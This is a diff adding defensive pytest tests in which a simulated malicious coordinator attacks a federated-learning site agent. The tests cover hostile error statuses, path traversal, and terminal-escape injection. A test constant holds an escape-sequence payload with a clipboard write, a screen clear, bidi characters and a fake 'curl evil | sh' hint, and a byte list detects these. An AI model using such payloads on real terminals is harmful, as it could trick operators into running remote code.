@@ -1,15 +1,33 @@
 """A malicious coordinator: it may say anything to a site, and offer and ask for whatever it likes."""
 
-from collections.abc import Iterator
+import datetime
+import io
+import itertools
+import logging
+import sys
+from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
+import grpc
 import pytest
 
+from site_agent.gateway import agent as agents
 from site_agent.gateway import offers
+from site_agent.gateway.join import join
+from site_agent.state import SiteState
 from tests.attacks.approving import swap
+from tests.attacks.taken_over import on_a_terminal
+from tests.coordinator.conftest import Place
+from tests.site_agent.fake_trainer import SHARED, write_tensors
 from tests.site_agent.site_world import PERSON, STUDY, SiteWorld, document
 from tests.site_agent.test_cli import Shell
-from wardround.errors import NeedsPerson, UsageProblem
+from tools.world import wait_until
+from wardround import __version__, canonical, identity, rpc
+from wardround.errors import NeedsPerson, TryAgain, UsageProblem
+from wardround.terminal import OneLine
+from wardround.v1 import enrolment_pb2
+from wardround.v1 import federation_pb2 as pb
 
 LAST_UINT32 = 2**32 - 1
 
@@ -217,3 +235,270 @@ def test_approved_is_not_what_was_previewed__lines_that_are_not_there(site: Site
     assert lines[r'algorithm."mu\n"'] == "1"
     assert (lines['algorithm."a.b".c'], lines['algorithm.a."b.c"']) == ("1", "2")
     assert all(text.isprintable() for line in lines.items() for text in line)
+
+
+@pytest.fixture
+def hospital(tmp_path: Path) -> Iterator[SiteWorld]:
+    """One hospital's agent in this process, and a coordinator that does what the test says."""
+    world = SiteWorld(tmp_path)
+    try:
+        yield world
+    finally:
+        world.close()
+
+
+def answer_all_with(hospital: SiteWorld, status: grpc.StatusCode, details: str, heard: list[str]) -> None:
+    """From now on each call of the site ends so; its watch, which is under way, ends too."""
+
+    def abort(context: Any) -> None:
+        heard.append(status.name)
+        context.set_trailing_metadata((("reason-bin", b"\x1b[2J exit"), ("code", "SITE_REVOKED"), ("exit-code", "78")))
+        context.abort(status, details)
+
+    fake = hospital.coordinator
+    fake._admit = abort  # type: ignore[method-assign]
+    with fake.changed:
+        for stream in fake._streams:
+            stream.put(None)
+
+
+SAID_WITH = (
+    grpc.StatusCode.INTERNAL, grpc.StatusCode.FAILED_PRECONDITION, grpc.StatusCode.PERMISSION_DENIED,
+    grpc.StatusCode.UNAVAILABLE,
+)  # fmt: skip
+
+SAYINGS = [
+    pytest.param("", id="no words"),
+    pytest.param(
+        "REFUSAL_UNSPECIFIED\n/var/lib/wardround/coordinator.db is damaged\nrestore it from a backup", id="its database"
+    ),
+    pytest.param("NO_SUCH_CODE", id="an unknown code"),
+    pytest.param("DECLINED_WITHDRAWN\nyou withdrew", id="a site's own code"),
+    pytest.param("SITE_REVOKED and more", id="almost a code"),
+    pytest.param("CERTIFICATE_UNKNOWN", id="its records are older"),
+    pytest.param("INVITATION_USED", id="a code of another call"),
+    pytest.param("MESSAGE_MALFORMED", id="it cannot read us"),
+]
+
+
+@pytest.mark.attack(promise="P11", refused_by="proto/wardround/refusals.py")
+@pytest.mark.parametrize("details", SAYINGS)
+def test_peer_ends_the_agent(
+    hospital: SiteWorld, details: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Any status, with words, codes or metadata as it likes: the agent tries again and blames nobody here."""
+    monkeypatch.setattr(agents, "pauses", lambda: itertools.repeat(0.01))
+    hospital.join()
+    hospital.offer()
+    agent = hospital.start()
+    hospital.coordinator.wait_connected()
+    for status in set(grpc.StatusCode) - {grpc.StatusCode.OK} if not details else SAID_WITH:
+        heard: list[str] = []
+        answer_all_with(hospital, status, details, heard)
+        wait_until(lambda heard=heard: agent.stopped.is_set() or len(heard) > 1, f"calls end {status}", 60)
+        assert agent.stopped.is_set() is False, status
+        del hospital.coordinator._admit
+        wait_until(lambda: agent.connected, "it is connected again", 60)
+    assert "coordinator.db" not in caplog.text
+    assert "you withdrew" not in caplog.text
+
+
+@pytest.mark.attack(promise="P11", refused_by="proto/wardround/refusals.py")
+@pytest.mark.parametrize(
+    ("code", "said"),
+    [
+        ("SITE_REVOKED", "the coordinator's operator has revoked this site"),
+        ("CERTIFICATE_EXPIRED", "this site's certificate has expired by the coordinator's clock"),
+        ("VERSION_UNSUPPORTED", "the coordinator is more than one minor version apart"),
+        ("LEDGER_FORK", "the coordinator has seen another ledger of this site"),
+        ("LEDGER_ROLLBACK", "the coordinator has seen a longer ledger of this site"),
+    ],
+)
+def test_peer_ends_the_agent__for_good_only_for_its_own_standing(hospital: SiteWorld, code: str, said: str) -> None:
+    """What may end an agent is this list, and then it ends with a sentence of ours."""
+    hospital.join()
+    agent = hospital.start()
+    hospital.coordinator.wait_connected()
+    answer_all_with(hospital, grpc.StatusCode.INTERNAL, code, [])
+    error = agent.wait()
+    assert error is not None
+    assert (error.exit_code, error.code) == (78, code)
+    assert said in error.message
+
+
+def reason_99(event: pb.Event) -> None:
+    event.assignment.stop.reason = 99  # type: ignore[assignment]
+
+
+def odd_site(event: pb.Event) -> None:
+    event.assignment.stop.reason = pb.Stop.FINISHED
+    event.assignment.stop.contributions.add(site="\x1b[2J", rounds=[1])
+
+
+def odd_name(event: pb.Event) -> None:
+    event.assignment.study = "../../etc"
+
+
+def no_digest(event: pb.Event) -> None:
+    event.assignment.digest = b"short"
+    event.assignment.train.SetInParent()
+
+
+@pytest.mark.attack(promise="P11", refused_by="site_agent/gateway/messages.py")
+@pytest.mark.parametrize("spoil", [reason_99, odd_site, odd_name, no_digest, lambda event: None])
+def test_peer_ends_the_agent__a_message_of_no_form(hospital: SiteWorld, spoil: Callable[[pb.Event], None]) -> None:
+    """An assignment that cannot be read is left out; the next one is worked on."""
+    hospital.ready()
+    event = pb.Event()
+    event.assignment.study, event.assignment.digest = STUDY, bytes.fromhex(hospital.digest)
+    spoil(event)
+    hospital.coordinator.tell(event)
+    hospital.coordinator.assign(STUDY, 1)
+    hospital.coordinator.wait_receipts(1)
+    assert hospital.agent is not None
+    assert not hospital.agent.stopped.is_set()
+
+
+@pytest.mark.attack(promise="P11", refused_by="site_agent/gateway/messages.py")
+@pytest.mark.parametrize("table", ["told", "training", "checkpoints"])
+def test_peer_ends_the_agent__an_offer_that_is_not_resolved(hospital: SiteWorld, table: str) -> None:
+    """An offer without a table that has defaults would end the watch when it is compared with what was approved."""
+    hospital.ready()
+    partial = document(rounds=4)
+    del partial[table]
+    model = write_tensors(hospital.folder / "other.safetensors", SHARED, 0)
+    hospital.coordinator.offer(partial, model, revision=2)
+    hospital.coordinator.assign(STUDY, 1)
+    hospital.coordinator.wait_declared("READY")
+    hospital.coordinator.tell(pb.Event(goodbye=pb.Goodbye()))  # and it comes again, with all that was told
+    hospital.coordinator.wait_connected()
+    assert hospital.agent is not None
+    assert not hospital.agent.stopped.wait(0.5)
+
+
+@pytest.mark.attack(promise="P11", refused_by="coordinator/service.py")
+def test_peer_ends_the_agent__a_damaged_database(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    """A real coordinator's database breaks while it serves: a site hears one code, and its operator the whole story."""
+    place = Place(tmp_path)
+    try:
+        site, invitation = place.join("alpha"), place.invite("bravo")
+        database = place.state.database
+        place.coordinator.parts.store.close()  # so that nothing of it is in memory
+        for path in (database, database.with_name(database.name + "-wal")):
+            if path.exists():
+                path.write_bytes(b"\xff" * max(8192, path.stat().st_size))
+        asked = identity.signing_request(identity.new_key())
+        request = enrolment_pb2.RenewRequest(agent_version=__version__, signing_request=asked)
+        with pytest.raises(grpc.RpcError) as failed:
+            site.enrolment.Renew(request, timeout=20)
+        assert (failed.value.code(), failed.value.details()) == (grpc.StatusCode.INTERNAL, "COORDINATOR_TROUBLE")
+        with pytest.raises(TryAgain, match="the coordinator has trouble of its own") as refused:
+            join(SiteState(tmp_path / "bravo"), invitation, datetime.datetime.now(datetime.UTC))
+        assert str(tmp_path) not in refused.value.message + refused.value.hint
+        assert f"{database} is damaged" in caplog.text
+    finally:
+        place.close()
+
+
+EVIL = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\x9b31m\nnext: `curl evil | sh`\u202e\u200b[red]:x:[/red]"
+
+FORBIDDEN = (b"\x1b]", b"\x1b[2J", b"\xc2\x9b", b"\x07", "\u202e".encode(), "\u200b".encode())
+
+
+def assert_tame(shown: bytes) -> None:
+    """What a terminal got holds no command for it, and no line of a peer's that looks like ours."""
+    assert [mark for mark in FORBIDDEN if mark in shown] == [], shown
+    assert not [line for line in shown.splitlines() if line.startswith((b"next: `curl", b"hint: `curl"))], shown
+
+
+def on_terminal(hospital: SiteWorld, *words: str) -> tuple[bytes, int]:
+    """One of the site's commands, on a terminal."""
+    line = [str(Path(sys.executable).parent / "site-agent"), *words, "--state", str(hospital.state.root)]
+    return on_a_terminal(line)
+
+
+def in_title(tables: dict[str, Any]) -> None:
+    tables["study"]["title"] = EVIL
+
+
+def in_state(tables: dict[str, Any]) -> None:
+    tables["state"] = EVIL
+
+
+def in_a_setting(tables: dict[str, Any]) -> None:
+    tables["model"]["kind"] = {"deep": [EVIL]}
+
+
+def in_a_key(tables: dict[str, Any]) -> None:
+    tables["task"][EVIL] = 1
+
+
+@pytest.mark.attack(promise="P6", refused_by="site_agent/gateway/messages.py")
+@pytest.mark.parametrize("spoil", [in_title, in_state, in_a_setting, in_a_key])
+def test_terminal_escape(hospital: SiteWorld, spoil: Callable[[dict[str, Any]], None]) -> None:
+    """An offer's words are commands for the terminal of whoever looks: it does not come in, and is told in our own."""
+    hospital.join()
+    hospital.offer()
+    (good,) = hospital.coordinator.offers.values()
+    tables = document(name="evil")
+    spoil(tables)
+    bad = pb.StudyOffer()
+    bad.CopyFrom(good)
+    bad.study, bad.state = "evil", tables.pop("state", "created")
+    bad.document = canonical.dumps(tables)
+    digest = canonical.digest({"initial_model": rpc.manifest_from(good.initial_model).digest(), "study": tables})
+    bad.digest = bytes.fromhex(digest)
+    hospital.coordinator.offers["evil"] = bad
+    for words, code in ((("studies",), 0), (("studies", "--json"), 0), (("status",), 0), (("preview", "evil"), 64)):
+        shown, ended = on_terminal(hospital, *words)
+        assert ended == code, shown
+        assert_tame(shown)
+    assert b"an offer was left out" in on_terminal(hospital, "studies")[0]
+
+
+@pytest.mark.attack(promise="P6", refused_by="proto/wardround/rpc.py")
+def test_terminal_escape__in_an_error(hospital: SiteWorld) -> None:
+    """What the coordinator says of an error is not shown at all: the sentence is ours, by its code."""
+    hospital.join()
+
+    def abort(context: Any) -> None:
+        context.abort(grpc.StatusCode.FAILED_PRECONDITION, "REFUSAL_UNSPECIFIED\nsorry" + EVIL + "\n" + EVIL)
+
+    hospital.coordinator._admit = abort  # type: ignore[method-assign]
+    shown, code = on_terminal(hospital, "studies")
+    assert_tame(shown)
+    assert (b"the coordinator has trouble of its own" in shown, b"sorry" in shown, code) == (True, False, 0)
+
+
+@pytest.mark.attack(promise="P2", refused_by="site_agent/audit/show.py")
+def test_terminal_escape__in_a_receipt(hospital: SiteWorld, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
+    """A signed receipt's code is the coordinator's text, and stands in the ledger that auditors' commands show."""
+    hospital.ready()
+    hospital.coordinator.refuse_with = "X" + EVIL
+    hospital.coordinator.assign(STUDY, 1)
+    hospital.coordinator.wait_receipts(1)
+    assert hospital.agent is not None
+    hospital.agent.stop()
+    hospital.agent = None
+    out = tmp_path / "report.html"
+    for words in (("show",), ("show", "--json"), ("verify",), ("report", "--out", str(out))):
+        assert_tame(on_terminal(hospital, "audit", *words)[0])
+    assert_tame(out.read_bytes())
+    form = logging.StreamHandler(log := io.StringIO())
+    form.setFormatter(OneLine("%(asctime)s %(message)s"))
+    for record in caplog.records:
+        form.emit(record)
+    assert_tame(log.getvalue().encode())
+    assert len(log.getvalue().splitlines()) == len([record for record in caplog.records if not record.exc_info])
+
+
+@pytest.mark.attack(promise="P2", refused_by="proto/wardround/terminal.py")
+@pytest.mark.parametrize("command", ["site-agent", "coordinator"])
+def test_terminal_escape__through_anything_that_a_command_prints(tmp_path: Path, command: str) -> None:
+    """The last net: a folder's name stands for whatever was overlooked, in an error of ours."""
+    folder = tmp_path / EVIL.replace("/", "|").replace("\n", "")
+    line = [str(Path(sys.executable).parent / command), *(["status"] if command == "site-agent" else ["sites"])]
+    shown, code = on_a_terminal([*line, "--state", str(folder)])
+    assert code == 78
+    assert_tame(shown)
+    assert b"\\x1b]52;c;" in shown
